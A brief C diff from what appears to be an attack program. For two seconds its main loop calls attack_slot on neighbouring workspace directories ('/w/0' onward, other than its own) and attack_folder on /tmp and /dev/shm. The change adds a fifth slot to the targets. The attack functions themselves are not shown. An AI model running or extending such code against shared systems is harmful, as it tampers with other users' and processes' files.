@@ -51,7 +51,7 @@ int main(void) {
     getcwd(own, sizeof own);
     *strrchr(own, '/') = 0;
     for (time_t end = time(0) + 2; time(0) < end;) {
-        for (char slot[] = "/w/0"; slot[3] < '4'; slot[3]++)
+        for (char slot[] = "/w/0"; slot[3] < '5'; slot[3]++)
             if (strcmp(slot, own)) attack_slot(slot);
         attack_folder("/tmp");
         attack_folder("/dev/shm");
